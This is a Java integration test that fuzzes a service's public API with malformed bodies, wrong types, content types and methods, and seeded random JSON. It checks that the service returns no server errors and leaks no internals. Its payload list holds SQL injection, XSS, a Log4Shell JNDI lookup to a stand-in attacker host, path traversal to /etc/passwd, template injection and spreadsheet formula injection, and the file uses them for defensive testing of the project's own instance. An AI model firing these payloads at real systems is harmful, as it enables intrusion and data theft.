package dev.warden.launcher;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Every public endpoint, through the gateway of the running suite, with generated bad
 * input: each field missing, of the wrong type, huge, or carrying injection and traversal
 * payloads; unknown fields; bodies that are not JSON, not UTF-8, or nested thousands
 * deep; wrong content types and methods; hostile path and query values; and random JSON
 * from a seeded generator (the seed is printed, so a failure can be replayed). Invariant
 * for every answer: never a 5xx; every 4xx is {@code application/problem+json} with a
 * {@code code}; no body names a class, a package, SQL or a stack frame. The count per
 * endpoint goes to {@code target/fuzz/report.md}.
 */
class ApiFuzzIT {

	private static final long SEED = Long.getLong("warden.fuzz.seed", System.nanoTime());

	private static final int RANDOM_BODIES = Integer.getInteger("warden.fuzz.random", 25);

	private static final List<String> PAYLOADS = List.of("' OR '1'='1' --", "\"; DROP TABLE app_user; --",
			"<script>alert(1)</script>", "${jndi:ldap://attacker.example/a}", "../../../../etc/passwd",
			"%2e%2e%2f%2e%2e%2fetc%2fpasswd", "{{7*7}}", "#{7*7}", "=cmd|' /C calc'!A0", "\u0000", "\uD800",
			"😀".repeat(50), "a\r\nX-Injected: yes", "-1", "9".repeat(40), "NaN", "true", "null", "[]", "{}");

	private static final List<String> LEAKS = List.of("Exception", "\tat ", "java.", "javax.", "jakarta.",
			"org.springframework", "dev.warden", "SQLState", "PSQL", "hikari", "lettuce", "stack");

	private static final String CSRF = "fuzz-csrf-token-0123456789abcdef";

	private static LocalSuite suite;

	private static String userCookie;

	private static String adminCookie;

	// HTTP/1.1 as browsers and scripts send to the gateway; no h2c upgrade attempts
	// riding on hostile bodies.
	private final HttpClient http = HttpClient.newBuilder()
		.version(HttpClient.Version.HTTP_1_1)
		.connectTimeout(Duration.ofSeconds(5))
		.build();

	private final Map<String, Integer> tried = new LinkedHashMap<>();

	private final List<String> violations = new ArrayList<>();

	@BeforeAll
	static void signIn() throws Exception {
		suite = SharedSuite.get();
		HttpClient http = TestHttp.client();
		adminCookie = SharedSuite.sessionCookie(login(http, SharedSuite.ADMIN_EMAIL, SharedSuite.ADMIN_PASSWORD));
		String email = "fuzz." + UUID.randomUUID().toString().substring(0, 8) + "@example.test";
		String password = "harbour " + RandomSecrets.generate(16) + " lantern";
		SharedSuite.createUser(adminCookie, email, "Fuzz Tester", password);
		userCookie = SharedSuite.sessionCookie(login(http, email, password));
	}

	@Test
	void noEndpointAnswersBadInputWithA5xxAStackTraceOrAnythingButAProblem() throws Exception {
		System.out.println("ApiFuzzIT seed: " + SEED + " (rerun with -Dwarden.fuzz.seed=" + SEED + ")");
		Random random = new Random(SEED);
		for (Endpoint endpoint : endpoints()) {
			fuzz(endpoint, random);
		}
		writeReport();
		assertThat(this.violations).as("answers that break the invariant").isEmpty();
		assertThat(this.tried.values().stream().mapToInt(Integer::intValue).sum()).isGreaterThan(1000);
	}

	private record Endpoint(String method, String path, String cookie, Map<String, Object> body) {

		String name() {
			return this.method + " " + this.path;
		}
	}

	private static List<Endpoint> endpoints() {
		String u = userCookie;
		String a = adminCookie;
		Map<String, Object> policy = new LinkedHashMap<>();
		for (String field : List.of("minLength", "minLengthWithTwoFactor")) {
			policy.put(field, 15);
		}
		policy.put("maxLength", 128);
		policy.put("rejectCommon", true);
		policy.put("minStrength", 3);
		policy.put("rejectUserInfo", true);
		policy.put("historySize", 5);
		for (String field : List.of("minUppercase", "minLowercase", "minDigits", "minSpecial", "maxAgeDays",
				"minAgeHours")) {
			policy.put(field, 0);
		}
		policy.put("twoFactorRequiredFor", List.of());
		return List.of(
				new Endpoint("POST", "/api/auth/login", null, body("email", "nobody@example.test", "password", "x")),
				new Endpoint("POST", "/api/auth/login/mfa", null, body("mfaToken", "abc", "code", "123456")),
				new Endpoint("POST", "/api/auth/reauthenticate", u, body("password", "wrong password")),
				new Endpoint("GET", "/api/me", u, null), new Endpoint("PUT", "/api/me/locale", u, body("locale", "de")),
				new Endpoint("GET", "/api/security/password/policy", u, null),
				new Endpoint("POST", "/api/security/password", u,
						body("currentPassword", "wrong", "newPassword", "x", "confirmPassword", "y")),
				new Endpoint("GET", "/api/security/two-factor", u, null),
				new Endpoint("POST", "/api/security/two-factor/confirm", u, body("code", "000000")),
				new Endpoint("POST", "/api/security/two-factor/disable", u, body("password", "x", "code", "000000")),
				new Endpoint("POST", "/api/security/two-factor/recovery-codes", u, body("code", "000000")),
				new Endpoint("GET", "/api/security/sessions", u, null),
				new Endpoint("DELETE", "/api/security/sessions/{id}", u, null),
				new Endpoint("GET", "/api/security/tokens", u, null),
				new Endpoint("GET", "/api/security/tokens/roles", u, null),
				new Endpoint("POST", "/api/security/tokens", u,
						body("name", "fuzz", "validityMonths", 13, "role", "ROOT")),
				new Endpoint("DELETE", "/api/security/tokens/{id}", u, null),
				new Endpoint("GET", "/api/security/log", u, null),
				new Endpoint("GET", "/api/security/log/export", u, null),
				new Endpoint("GET", "/api/admin/users", a, null),
				new Endpoint("POST", "/api/admin/users", a,
						body("email", "not-an-email", "displayName", "", "roles", List.of("ROOT"), "password", "x")),
				new Endpoint("POST", "/api/admin/users/{id}/unlock", a, null),
				new Endpoint("POST", "/api/admin/users/{id}/sessions/end", a, null),
				new Endpoint("GET", "/api/admin/password-policy", a, null),
				new Endpoint("PUT", "/api/admin/password-policy", a, invalid(policy)),
				new Endpoint("GET", "/api/admin/security-log", a, null),
				new Endpoint("GET", "/api/admin/security-log/verify", a, null),
				new Endpoint("GET", "/api/admin/notifications/templates", a, null),
				new Endpoint("GET", "/api/admin/notifications/templates/{id}/preview", a, null));
	}

	/**
	 * The policy with one rule out of range, so no mutation of it can change the suite's
	 * real policy.
	 */
	private static Map<String, Object> invalid(Map<String, Object> policy) {
		Map<String, Object> copy = new LinkedHashMap<>(policy);
		copy.put("minLength", 3);
		return copy;
	}

	private static Map<String, Object> body(Object... pairs) {
		Map<String, Object> body = new LinkedHashMap<>();
		for (int i = 0; i < pairs.length; i += 2) {
			body.put((String) pairs[i], pairs[i + 1]);
		}
		return body;
	}

	private void fuzz(Endpoint endpoint, Random random) throws Exception {
		String path = endpoint.path().replace("{id}", UUID.randomUUID().toString());
		String json = endpoint.body() == null ? null : toJson(endpoint.body());
		if (endpoint.body() != null) {
			for (String field : endpoint.body().keySet()) {
				Map<String, Object> missing = new LinkedHashMap<>(endpoint.body());
				missing.remove(field);
				send(endpoint, endpoint.method(), path, "application/json", bytes(toJson(missing)));
				for (Object wrong : List.of(12345, -1, 3.75, true, List.of("a", 1), Map.of("x", Map.of()),
						"x".repeat(10_000))) {
					Map<String, Object> mutated = new LinkedHashMap<>(endpoint.body());
					mutated.put(field, wrong);
					send(endpoint, endpoint.method(), path, "application/json", bytes(toJson(mutated)));
				}
				mutated(endpoint, path, field, null);
				for (String payload : PAYLOADS) {
					mutated(endpoint, path, field, payload);
				}
			}
			Map<String, Object> extra = new LinkedHashMap<>(endpoint.body());
			extra.put("isAdmin", true);
			extra.put("roles", List.of("ADMIN"));
			send(endpoint, endpoint.method(), path, "application/json", bytes(toJson(extra)));
			for (int i = 0; i < RANDOM_BODIES; i++) {
				Map<String, Object> generated = new LinkedHashMap<>();
				for (String field : endpoint.body().keySet()) {
					generated.put(field, randomValue(random, 3));
				}
				if (random.nextBoolean()) {
					generated.put(randomString(random, 8), randomValue(random, 3));
				}
				send(endpoint, endpoint.method(), path, "application/json", bytes(toJson(generated)));
			}
		}
		List<byte[]> hostileBodies = List.of(bytes("{"), bytes("[]"), bytes("null"), bytes("\"text\""), bytes(""),
				bytes("{\"a\":1,\"a\":2}"),
				new byte[] { '{', '"', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}' },
				new byte[] { (byte) 0xFF, (byte) 0xFE, (byte) 0x00, (byte) 0x80 },
				bytes("[".repeat(10_000) + "]".repeat(10_000)),
				bytes("{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000)),
				bytes("{\"x\":\"" + "y".repeat(70_000) + "\"}"), randomBytes(random, 512));
		for (byte[] hostile : hostileBodies) {
			send(endpoint, endpoint.method(), path, "application/json", hostile);
		}
		byte[] valid = json == null ? bytes("{}") : bytes(json);
		for (String type : new String[] { "text/plain", "application/xml", "application/x-www-form-urlencoded",
				"multipart/form-data; boundary=x", "application/json; charset=ISO-8859-1", "*/*", null }) {
			send(endpoint, endpoint.method(), path, type, valid);
		}
		for (String method : new String[] { "GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS" }) {
			if (!method.equals(endpoint.method())) {
				send(endpoint, method, path, "application/json", valid);
			}
		}
		if (endpoint.path().contains("{id}")) {
			for (String id : new String[] { "..%2F..%2F..%2Fetc%2Fpasswd", "%00", "x".repeat(5_000), "%27%20OR%201%3D1",
					"%E2%80%AE", "..;", "%252e%252e", "%F0%9F%98%80", "-1", "9223372036854775808" }) {
				send(endpoint, endpoint.method(), endpoint.path().replace("{id}", id), "application/json", valid);
			}
		}
		if ("GET".equals(endpoint.method())) {
			for (String query : new String[] { "limit=abc", "limit=-5", "limit=99999999999", "from=yesterday",
					"to=2026-13-45T99:00:00Z", "cursor=%00%01", "cursor=" + "A".repeat(4_000), "type=%27%3B--",
					"userId=%3Cscript%3E", "page=-1", "size=100000", "outcome=%F0%9F%98%80", "limit=1&limit=2",
					"locale=..%2F..%2Fetc", "%=%" }) {
				send(endpoint, "GET", path + "?" + query, null, null);
			}
		}
	}

	private void mutated(Endpoint endpoint, String path, String field, String value) throws Exception {
		Map<String, Object> mutated = new LinkedHashMap<>(endpoint.body());
		mutated.put(field, value);
		send(endpoint, endpoint.method(), path, "application/json", bytes(toJson(mutated)));
	}

	private void send(Endpoint endpoint, String method, String path, String contentType, byte[] body) throws Exception {
		this.tried.merge(endpoint.name(), 1, Integer::sum);
		HttpRequest.Builder request;
		try {
			request = HttpRequest.newBuilder(URI.create(gateway() + path)).timeout(Duration.ofSeconds(20));
		}
		catch (IllegalArgumentException ex) {
			return; // not a URI a client could send
		}
		if (endpoint.cookie() != null) {
			request.header("Cookie", "warden_session=" + endpoint.cookie() + "; XSRF-TOKEN=" + CSRF);
			request.header("X-XSRF-TOKEN", CSRF);
		}
		if (contentType != null) {
			request.header("Content-Type", contentType);
		}
		request.method(method,
				body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofByteArray(body));
		HttpResponse<String> response;
		try {
			response = sendOnce(request.build());
		}
		catch (IOException ex) {
			if (body != null && body.length > 64 * 1024) {
				return; // refused before the body was read (413 and close): fine
			}
			this.violations.add(endpoint.name() + " " + method + " " + path + ": no answer (" + ex + ")");
			return;
		}
		check(endpoint, method + " " + abbreviate(path), response);
	}

	/**
	 * One retry after a client-side timeout only: on two shared cores a request can stall
	 * behind a JIT or GC pause of the suite; a request that gets no answer twice is a
	 * violation.
	 */
	private HttpResponse<String> sendOnce(HttpRequest request) throws Exception {
		try {
			return this.http.send(request, HttpResponse.BodyHandlers.ofString());
		}
		catch (java.net.http.HttpTimeoutException ex) {
			return this.http.send(request, HttpResponse.BodyHandlers.ofString());
		}
	}

	private void check(Endpoint endpoint, String request, HttpResponse<String> response) {
		int status = response.statusCode();
		String type = response.headers().firstValue("Content-Type").orElse("");
		String body = response.body();
		if (status >= 500) {
			this.violations.add(request + " → " + status + " " + abbreviate(body));
		}
		else if (status >= 400 && (!type.startsWith("application/problem+json") || !body.contains("\"code\":"))) {
			this.violations.add(request + " → " + status + " not a problem (" + type + "): " + abbreviate(body));
		}
		for (String leak : LEAKS) {
			if (status >= 400 && body.contains(leak)) {
				this.violations.add(request + " → " + status + " leaks \"" + leak + "\": " + abbreviate(body));
			}
		}
	}

	private void writeReport() throws IOException {
		StringBuilder report = new StringBuilder("# API fuzzing\n\nSeed ").append(SEED)
			.append(". Invariant: no 5xx, every 4xx problem+json with a code, no internals in any error body.\n\n")
			.append("| endpoint | requests |\n|---|---|\n");
		this.tried
			.forEach((name, count) -> report.append("| `").append(name).append("` | ").append(count).append(" |\n"));
		report.append("\nTotal: ")
			.append(this.tried.values().stream().mapToInt(Integer::intValue).sum())
			.append(" requests; violations: ")
			.append(this.violations.size())
			.append('\n');
		this.violations.forEach((violation) -> report.append("- ").append(violation).append('\n'));
		Path file = Path.of("target/fuzz/report.md");
		Files.createDirectories(file.getParent());
		Files.writeString(file, report);
		System.out.println(report);
	}

	private static Object randomValue(Random random, int depth) {
		int kind = random.nextInt(depth > 0 ? 8 : 6);
		return switch (kind) {
			case 0 -> null;
			case 1 -> random.nextBoolean();
			case 2 -> random.nextLong();
			case 3 -> random.nextDouble() * 1e12;
			case 4 -> randomString(random, random.nextInt(64));
			case 5 -> PAYLOADS.get(random.nextInt(PAYLOADS.size()));
			case 6 -> java.util.Arrays.asList(randomValue(random, depth - 1), randomValue(random, depth - 1));
			default -> Map.of(randomString(random, 5), String.valueOf(randomValue(random, depth - 1)));
		};
	}

	private static String randomString(Random random, int length) {
		StringBuilder text = new StringBuilder();
		for (int i = 0; i < length; i++) {
			int codePoint = random.nextInt(10) < 7 ? 32 + random.nextInt(95) : random.nextInt(0x2FFFF);
			if (Character.isValidCodePoint(codePoint) && !Character.isSurrogate((char) codePoint)) {
				text.appendCodePoint(codePoint);
			}
		}
		return text.toString();
	}

	private static byte[] randomBytes(Random random, int length) {
		byte[] bytes = new byte[length];
		random.nextBytes(bytes);
		return bytes;
	}

	private static byte[] bytes(String text) {
		return text.getBytes(StandardCharsets.UTF_8);
	}

	private static String toJson(Object value) {
		if (value == null) {
			return "null";
		}
		if (value instanceof String text) {
			StringBuilder json = new StringBuilder("\"");
			for (char c : text.toCharArray()) {
				switch (c) {
					case '"' -> json.append("\\\"");
					case '\\' -> json.append("\\\\");
					default -> {
						if (c < 0x20 || Character.isSurrogate(c)) {
							json.append(String.format("\\u%04x", (int) c));
						}
						else {
							json.append(c);
						}
					}
				}
			}
			return json.append('"').toString();
		}
		if (value instanceof Map<?, ?> map) {
			List<String> members = new ArrayList<>();
			map.forEach((key, inner) -> members.add(toJson(String.valueOf(key)) + ":" + toJson(inner)));
			return "{" + String.join(",", members) + "}";
		}
		if (value instanceof List<?> list) {
			return "[" + String.join(",", list.stream().map(ApiFuzzIT::toJson).toList()) + "]";
		}
		return String.valueOf(value);
	}

	private static String abbreviate(String text) {
		return text.length() > 200 ? text.substring(0, 200) + "…" : text;
	}

	private static String gateway() {
		return suite.url(WardenService.GATEWAY);
	}

	private static HttpResponse<String> login(HttpClient http, String email, String password) throws Exception {
		return http.send(HttpRequest.newBuilder(URI.create(gateway() + "/api/auth/login"))
			.header("Content-Type", "application/json")
			.POST(HttpRequest.BodyPublishers
				.ofString("{\"email\":\"" + email + "\",\"password\":\"" + password + "\"}"))
			.build(), HttpResponse.BodyHandlers.ofString());
	}

}
